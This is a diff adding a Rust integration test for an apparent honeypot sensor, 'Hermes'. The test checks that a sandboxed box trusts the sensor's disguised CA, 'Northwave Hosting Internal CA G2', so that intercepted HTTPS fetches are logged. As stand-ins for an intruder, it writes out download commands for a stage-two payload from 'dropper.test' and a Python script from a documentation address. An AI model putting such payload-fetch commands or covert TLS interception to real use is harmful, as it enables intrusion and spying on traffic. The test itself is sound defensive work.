@@ -1,0 +1,109 @@
+//! HTTPS from the box (`egress.mode: fetch`): every box trusts the sensor's own CA,
+//! generated at first start beside the host keys, so its TLS to any address ends at
+//! Hermes with a certificate it accepts, and the fetch is reported with its SNI.
+//! Nothing public is ever contacted: upstream is allowed to loopback only.
+
+use std::os::unix::fs::PermissionsExt;
+
+use hermes_core::address_block::AddressBlock;
+use hermes_core::config::EgressMode;
+
+use crate::client::{ROOT_PROMPT, Shell, output_lines};
+use crate::harness::{Hermes, Options};
+
+async fn run(shell: &mut Shell, command: &str) -> Vec<String> {
+    let out = shell.run(command, ROOT_PROMPT).await;
+    output_lines(&out)
+        .into_iter()
+        .filter(|line| !line.is_empty())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn egress_https_the_box_trusts_the_sensor_ca_and_its_tls_ends_at_hermes() {
+    require_docker!();
+    let hermes = Hermes::start(Options::default().configure(|c| {
+        c.egress.mode = EgressMode::Fetch;
+        c.capture.enabled = true;
+        c.egress.upstream_allow = vec![AddressBlock::parse("127.0.0.1/32").expect("block")];
+        c.egress.dns.static_only = true;
+    }));
+    let keys = hermes.dir.path().join("keys");
+    let ca = std::fs::read_to_string(keys.join("egress_ca.crt")).expect("the sensor's CA");
+    let mode = std::fs::metadata(keys.join("egress_ca.key"))
+        .expect("its key")
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o600);
+    let (_client, mut shell) = crate::client::root_shell(hermes.port).await;
+
+    // Where update-ca-certificates would have put it, and in the bundle, last.
+    let listed = run(&mut shell, "ls /usr/local/share/ca-certificates/").await;
+    assert_eq!(
+        listed,
+        ["Northwave_Hosting_Internal_CA_G2.crt"],
+        "{listed:?}"
+    );
+    let subject = run(
+        &mut shell,
+        "openssl x509 -noout -subject -in /etc/ssl/certs/Northwave_Hosting_Internal_CA_G2.pem",
+    )
+    .await;
+    assert_eq!(
+        subject,
+        ["subject=O = Northwave Hosting Ltd, CN = Northwave Hosting Internal CA G2"],
+        "{subject:?}"
+    );
+    let lines = ca.lines().count();
+    let tail = run(
+        &mut shell,
+        &format!("tail -n {lines} /etc/ssl/certs/ca-certificates.crt"),
+    )
+    .await;
+    assert_eq!(
+        tail.join("\n"),
+        ca.trim_end(),
+        "the bundle ends with the CA"
+    );
+    let roots = run(
+        &mut shell,
+        "grep -c BEGIN /etc/ssl/certs/ca-certificates.crt",
+    )
+    .await;
+    let roots: usize = roots[0].parse().expect("a count");
+    assert!(roots > 100, "the image's roots are kept: {roots}");
+
+    // curl without -k: the handshake with the gateway succeeds (exit 60 would be a
+    // certificate refused); upstream is refused, so the reply is empty (52).
+    let curl = run(
+        &mut shell,
+        "curl -sS -o /dev/null --max-time 10 --resolve dropper.test:443:203.0.113.10 https://dropper.test/stage2.sh 2>&1; echo rc=$?",
+    )
+    .await;
+    assert_eq!(curl.last().map(String::as_str), Some("rc=52"), "{curl:?}");
+    // Python's urllib (OpenSSL's default paths) trusts it too, by address (no SNI).
+    let python = run(
+        &mut shell,
+        "python3 -c \"import urllib.request as u; u.urlopen('https://203.0.113.11/p.py', timeout=10)\" 2>&1 | tail -n 1",
+    )
+    .await;
+    let python = python.join("\n");
+    assert!(!python.contains("CERTIFICATE_VERIFY_FAILED"), "{python}");
+    assert!(python.contains("RemoteDisconnected"), "{python}");
+
+    let failed = hermes.wait_for_count("cowrie.session.file_download.failed", 2);
+    let by_url = |url: &str| {
+        failed
+            .iter()
+            .find(|e| e["url"] == url)
+            .unwrap_or_else(|| panic!("no failure for {url}: {failed:?}"))
+            .clone()
+    };
+    let named = by_url("https://dropper.test/stage2.sh");
+    assert_eq!(named["sni"], "dropper.test");
+    assert_eq!(named["upstream"], "203.0.113.10:443");
+    assert_ne!(named["reason"], "tls_handshake", "{named}");
+    let by_address = by_url("https://203.0.113.11/p.py");
+    assert!(by_address.get("sni").is_none(), "{by_address}");
+    assert!(hermes.events_of("cowrie.session.file_download").is_empty());
+}
